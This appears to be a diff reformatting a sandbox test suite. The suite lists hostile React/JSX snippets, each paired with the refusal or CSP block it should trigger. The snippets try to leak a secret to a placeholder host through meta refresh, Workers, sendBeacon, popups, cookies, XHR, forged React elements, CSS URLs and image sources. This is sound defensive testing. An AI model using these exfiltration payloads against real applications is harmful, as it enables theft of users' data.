@@ -191,7 +191,7 @@ HOSTILE: dict[str, Hostile] = {
     "meta_refresh_via_inner_html": Hostile(
         _render(
             "<div dangerouslySetInnerHTML={{ __html: "
-            '\'<meta http-equiv="refresh" content="0;url=LEAK?d=\' + secret + \'">\' }} />'
+            "'<meta http-equiv=\"refresh\" content=\"0;url=LEAK?d=' + secret + '\">' }} />"
         ),
         "Refused by the sandbox: components may not set `dangerouslySetInnerHTML`",
     ),
@@ -252,13 +252,15 @@ HOSTILE: dict[str, Hostile] = {
         "Cannot assign to read only property 'map'",
     ),
     # Other ways out: workers, beacons, popups, cookies, messages to the portal.
-    "worker": Hostile(_effect('new Worker("LEAK/worker.js?d=" + secret);'), NOT_GIVEN.format("Worker")),
+    "worker": Hostile(
+        _effect('new Worker("LEAK/worker.js?d=" + secret);'), NOT_GIVEN.format("Worker")
+    ),
     "send_beacon": Hostile(
         _effect('navigator.sendBeacon("LEAK", secret);'), NOT_GIVEN.format("navigator")
     ),
     "window_open": Hostile(_effect('open("LEAK?d=" + secret);'), NOT_GIVEN.format("open")),
     "document_cookie": Hostile(
-        _effect('const c = document.cookie; secret.length;'), NOT_GIVEN.format("document")
+        _effect("const c = document.cookie; secret.length;"), NOT_GIVEN.format("document")
     ),
     "xhr": Hostile(
         _effect('const x = new XMLHttpRequest(); x.open("GET", "SAME?d=" + secret); x.send();'),
@@ -288,8 +290,7 @@ HOSTILE: dict[str, Hostile] = {
     ),
     "event_view_on_click": Hostile(
         _render(
-            '<button onClick={(e) => { e.view.location = "LEAK?d=" + secret; }}>'
-            "press me</button>"
+            '<button onClick={(e) => { e.view.location = "LEAK?d=" + secret; }}>press me</button>'
         ),
         "Refused by the sandbox: components may not use `view` of an event",
         click="press me",
@@ -307,7 +308,8 @@ HOSTILE: dict[str, Hostile] = {
 export default function Viz({ data }) {
   const ref = useRef(null);
   useEffect(() => { ref.current.ownerDocument.location.href = "LEAK?d=MARKER"; }, []);
-  return { $$typeof: Symbol.for("react.element"), type: "div", key: null, ref, props: {}, _owner: null };
+  const forged = { $$typeof: Symbol.for("react.element"), type: "div", key: null, ref };
+  return { ...forged, props: {}, _owner: null };
 }
 """,
         "Refused by the sandbox: the component passed an element it did not create",
@@ -326,7 +328,9 @@ export default function Viz() { return <Sneaky />; }
     ),
     # Loads the frame's policy stops before any request is made.
     "css_url_inline_style": Hostile(
-        _render('<div style={{ height: 50, backgroundImage: "url(LEAK/bg.png?d=" + secret + ")" }} />'),
+        _render(
+            '<div style={{ height: 50, backgroundImage: "url(LEAK/bg.png?d=" + secret + ")" }} />'
+        ),
         CSP.format("img-src"),
     ),
     "css_url_to_own_api": Hostile(
@@ -336,7 +340,9 @@ export default function Viz() { return <Sneaky />; }
     "img_srcset": Hostile(
         _render('<img alt="" srcSet={"LEAK/a.png?d=" + secret + " 1x"} />'), CSP.format("img-src")
     ),
-    "img_own_api": Hostile(_render('<img alt="" src={"SAME?d=" + secret} />'), CSP.format("img-src")),
+    "img_own_api": Hostile(
+        _render('<img alt="" src={"SAME?d=" + secret} />'), CSP.format("img-src")
+    ),
     "svg_image": Hostile(
         _render('<svg width="50" height="50"><image href={"LEAK/i.png?d=" + secret} /></svg>'),
         CSP.format("img-src"),
